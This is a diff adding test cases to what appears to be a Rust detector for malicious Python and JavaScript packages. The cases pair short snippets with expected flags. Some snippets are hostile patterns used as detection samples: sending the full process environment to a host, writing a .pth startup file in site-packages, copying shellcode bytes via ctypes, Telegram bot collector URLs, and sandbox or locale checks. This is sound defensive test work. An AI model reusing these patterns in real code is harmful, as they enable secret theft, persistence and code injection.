@@ -159,6 +159,73 @@ fn told(steps: &[Step], feature: Feature, detail: &str) -> bool {
     "environment whole",
     false
 )]
+#[case::changed_for_a_child(
+    "import os, subprocess\nsubprocess.run(c, env=dict(os.environ, A='1'))",
+    Feature::ReadSecret,
+    "environment whole",
+    false
+)]
+#[case::kept_for_a_child(
+    "import os, subprocess\nenv = dict(os.environ)\nsubprocess.run(c, env=env)",
+    Feature::ReadSecret,
+    "environment whole",
+    false
+)]
+#[case::copy_sent(
+    "import os, requests\nenv = dict(os.environ)\nrequests.post('https://example.com', json=env)",
+    Feature::ReadSecret,
+    "environment whole",
+    true
+)]
+#[case::copy_method_sent(
+    "import os, requests\nrequests.post('https://example.com', json=os.environ.copy())",
+    Feature::ReadSecret,
+    "environment whole",
+    true
+)]
+#[case::buffer("import ctypes\nctypes.memmove(a, b, 1)\nctypes.string_at(a)", Feature::LoadNative, "", false)]
+#[case::shellcode("import ctypes\nctypes.memmove(a, b'\\xfc\\x48', 2)", Feature::LoadNative, "native", true)]
+#[case::prototype("from ctypes import CFUNCTYPE, c_int\nt = CFUNCTYPE(c_int)", Feature::LoadNative, "", false)]
+#[case::native_callback(
+    "from ctypes import CFUNCTYPE, c_int\n@CFUNCTYPE(c_int)\ndef seen(): pass",
+    Feature::LoadNative,
+    "",
+    false
+)]
+#[case::at_address(
+    "from ctypes import CFUNCTYPE, c_int\nCFUNCTYPE(c_int)(address)()",
+    Feature::LoadNative,
+    "native",
+    true
+)]
+#[case::moved(
+    "import ctypes\nctypes.windll.kernel32.RtlMoveMemory(a, b, 1)",
+    Feature::LoadNative,
+    "inject memory",
+    false
+)]
+#[case::tracer("import sys\nsys.settrace(f)", Feature::CheckEnvironment, "", false)]
+#[case::zones("z = {'Europe/Moscow': 1, 'Europe/London': 2}", Feature::CheckEnvironment, "", false)]
+#[case::weights("import torch\ntorch.save(a, 'model.pth')", Feature::Persist, "", false)]
+#[case::start_file("open('/usr/lib/python3/site-packages/a.pth', 'w')", Feature::Persist, "interpreter start", true)]
+#[case::zone("x = zone == 'Europe/Moscow'", Feature::CheckEnvironment, "locale", true)]
+#[case::place_of_a_file(
+    "import os, requests\nh = os.path.expanduser('~') + os.getlogin()\nrequests.post('https://example.com', data=open(h + '/a.txt').read())",
+    Feature::SendData,
+    "send host",
+    false
+)]
+#[case::chat_page("a = 'https://t.me/somebody'", Feature::UseCollector, "", false)]
+#[case::bot("a = 'https://api.telegram.org/bot'", Feature::UseCollector, "bot telegram", true)]
+#[case::limit(
+    "import os\nos.getenv('MAX_TOKENS')\nos.getenv('TOKENIZERS_PARALLELISM')",
+    Feature::ReadSecret,
+    "",
+    false
+)]
+#[case::way_in("import os\nos.getenv('AUTH_STRATEGY')\nos.getenv('TOKEN_PROXY')", Feature::ReadSecret, "", false)]
+#[case::errors_away("import os\nos.system('hostname -f 2>/dev/null')", Feature::SilentProcess, "", false)]
+#[case::output_away("import os\nos.system('x >/dev/null 2>&1')", Feature::SilentProcess, "", true)]
 #[case::all_variables("import os, json\njson.dumps(dict(os.environ))", Feature::ReadSecret, "environment whole", true)]
 fn in_python(#[case] source: &str, #[case] feature: Feature, #[case] detail: &str, #[case] expected: bool) {
     let steps = steps("a.py", source);
@@ -296,6 +363,27 @@ fn in_python(#[case] source: &str, #[case] feature: Feature, #[case] detail: &st
     "",
     false
 )]
+#[case::child_environment(
+    "require('child_process').spawn('a', [], { env: Object.assign({}, process.env, { A: '1' }) })",
+    Feature::ReadSecret,
+    "environment whole",
+    false
+)]
+#[case::copied_environment_sent(
+    "const env = Object.assign({}, process.env); fetch('https://example.com', { method: 'POST', body: JSON.stringify(env) })",
+    Feature::ReadSecret,
+    "environment whole",
+    true
+)]
+#[case::spread_environment_sent(
+    "fetch('https://example.com', { method: 'POST', body: JSON.stringify({ ...process.env }) })",
+    Feature::ReadSecret,
+    "environment whole",
+    true
+)]
+#[case::browser_by_name("const names = ['vivaldi', 'brave-browser']", Feature::ReadSecret, "", false)]
+#[case::own_module("require('./lib/cookies')", Feature::ReadSecret, "", false)]
+#[case::mail_address("fetch('https://example.com/outlook/a')", Feature::ReadSecret, "", false)]
 #[case::picture_of_a_box("const a = ['thinbox', 'vbox']", Feature::CheckEnvironment, "", false)]
 #[case::disk_of_a_machine("const a = d.includes('VBOX HARDDISK')", Feature::CheckEnvironment, "virtual machine", true)]
 fn in_javascript(#[case] source: &str, #[case] feature: Feature, #[case] detail: &str, #[case] expected: bool) {
